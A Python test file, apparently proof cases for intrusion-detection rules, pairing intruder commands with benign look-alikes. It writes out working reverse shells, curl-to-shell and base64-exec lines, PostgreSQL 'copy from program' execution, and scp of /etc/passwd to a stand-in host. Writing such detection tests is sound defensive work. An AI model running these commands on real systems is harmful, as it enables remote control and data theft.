# SPDX-License-Identifier: Apache-2.0
"""20-commands.yaml: commands that an intruder runs."""

from __future__ import annotations

from proof import Proof, Python

# To the listener that types "id; exit" (see peers.py).
REVERSE_SHELL = """python3 -c '
import os, socket
peer = socket.create_connection(("203.0.113.9", 4444))
for number in range(3):
    os.dup2(peer.fileno(), number)
os.execv("/bin/sh", ["sh"])'
"""

# By a link or a descriptor: the shell is called neither sh nor bash.
DISGUISED = """python3 - <<'END'
import os, socket, subprocess
peer = socket.create_connection(("203.0.113.9", 4444))
{}
subprocess.run([run, "-c", "id"], stdin=peer, stdout=peer, close_fds=False)
END
"""

# A program of the database's user is run by the server itself: no shell of ours is between.
POSTGRES = """
cd /var/lib/postgresql
setpriv --reuid=postgres --regid=postgres --clear-groups /usr/lib/postgresql/15/bin/postgres --single -D data postgres <<'END'
create table if not exists lines (line text);
copy lines from program '{}';
END
"""

PROOFS = [
    Proof("Reverse shell", attack=REVERSE_SHELL,
          others=(DISGUISED.format("os.symlink('/bin/bash', '/srv/worker'); run = '/srv/worker'"),
                  DISGUISED.format("fd = os.open('/bin/bash', os.O_RDONLY); os.set_inheritable(fd, True); run = f'/proc/self/fd/{fd}'")),
          look_alike="echo id | sh; sh </dev/null"),

    Proof("Connection made a standard stream", attack=REVERSE_SHELL, look_alike=Python("""
import os, socket
server = socket.create_server(("203.0.113.9", 7000))
client = socket.create_connection(("203.0.113.9", 7000))
accepted, _ = server.accept()
os.dup2(accepted.fileno(), 0)
""")),

    Proof("Reverse shell command", before="ln -s /usr/bin/busybox /usr/local/bin/nc",
          attack="bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' || true",
          others=("nc 203.0.113.9 4444 -e /bin/sh || true", REVERSE_SHELL),
          look_alike=Python("import socket; socket.create_server((\"127.0.0.1\", 7001))")),

    Proof("Server program started a shell", attack=POSTGRES.format("id"), look_alike="sh -c 'nginx -t'"),

    Proof("Server program started a tool", attack=POSTGRES.format("exec id"), look_alike="nginx -t"),

    Proof("Download piped into a shell", attack="sh -c 'curl -s http://203.0.113.9/script | sh'",
          others=("bash -c 'bash <(curl -s http://203.0.113.9/script)'", "sh -c 'eval \"$(curl -s http://203.0.113.9/script)\"'",
                  "sh -c 'curl -s http://203.0.113.9/script | /usr/bin/env bash'", "sh -c 'curl -s http://203.0.113.9/script |\nsh\n'"),
          look_alike="sh -c 'curl -fsS http://203.0.113.9/script | grep id'"),

    Proof("Encoded command decoded and run", attack="sh -c 'echo aWQK | base64 -d | sh'",
          others=("""python3 -c 'import base64; exec(base64.b64decode("aW1wb3J0IG9z"))'""", "bash -c 'sh <(echo aWQK | base64 -d)'",
                  "bash -c 'eval $(echo aWQK | base64 --decode)'", "sh -c 'echo aWQK | busybox base64 -di | busybox sh'",
                  "sh -c 'echo aWQK |\nbase64 -d | sh\n'"),
          look_alike="sh -c 'echo aWQK | base64 -d >/srv/ca.pem'"),

    Proof("Break-out tool run in a container", attack="capsh --print >/dev/null", look_alike="lsns >/dev/null"),

    Proof("Script in a temporary directory run", attack="echo 'print(1)' >/tmp/x.py; python3 /tmp/x.py",
          others=("echo id >/tmp/y; cd /tmp; sh y", "echo id >/tmp/y; sh </tmp/y", "echo id >/tmp/y; sh -e /tmp/y",
                  "printf '#!/bin/sh\\nid\\n' >/tmp/z; chmod +x /tmp/z; /tmp/z"),
          look_alike="echo 'print(1)' >/srv/x.py; python3 /srv/x.py"),

    # script(1) gives what it runs a terminal.
    Proof("Terminal shell in a container", attack="script -qc 'bash -c id' /dev/null", look_alike="bash -c id"),

    Proof("Package manager run in a container", attack="apt-get install -y nmap || true",
          look_alike="dpkg -l >/dev/null; apt-cache policy >/dev/null"),

    Proof("Package manager made to run a command", attack="apt-get update -o APT::Update::Pre-Invoke::=/usr/bin/true || true",
          look_alike="apt-get -o APT::Get::List-Cleanup=0 -o Dpkg::Options::=--force-confold check || true"),

    Proof("Compiler run in a container", before="ln -s /usr/bin/true /usr/local/bin/gcc", attack="gcc -o x x.c",
          look_alike="perl -c -e 1"),

    Proof("Network tool run in a container", before="ln -s /usr/bin/true /usr/local/bin/nmap",
          attack="nmap -sS 203.0.113.0/24", look_alike="ss -tln >/dev/null; ip route >/dev/null"),

    Proof("Remote copy or login from a container", before="ln -s /usr/bin/true /usr/local/bin/scp",
          attack="scp /etc/passwd 203.0.113.9:", look_alike="cp /etc/passwd /srv/passwd"),
]
